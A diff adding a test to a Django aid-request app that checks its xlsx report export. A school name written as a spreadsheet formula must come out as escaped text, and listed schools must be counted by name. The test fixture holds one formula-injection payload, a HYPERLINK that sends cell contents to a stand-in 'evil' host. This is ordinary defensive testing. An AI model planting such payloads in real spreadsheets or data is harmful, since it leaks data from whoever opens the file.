@@ -85,3 +85,16 @@ def test_each_page_runs_as_many_queries_for_many_requests_as_for_few(staff_clien
                 staff_client.get(url)
         counts.append(len(queries))
     assert counts[0] == counts[1]
+
+
+def test_a_school_typed_as_a_formula_is_text_in_the_export_and_a_listed_school_counts_by_name(staff_client):
+    from aid_requests.models import Household
+    from tests.resources.factories import SchoolFactory
+
+    made("clothing", at(2025, 10, 2), school='=HYPERLINK("http://evil/"&A1,"x")')
+    listed = made("clothing", at(2025, 10, 3), school="")
+    Household.objects.filter(pk=listed.household_id).update(school=SchoolFactory(name="Running Brook Elementary"))
+    response = staff_client.get("/admin/reports/requests/?export=xlsx&table=by-school")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert cells == {'\'=HYPERLINK("http://evil/"&A1,"x")': 1, "Running Brook Elementary": 1}
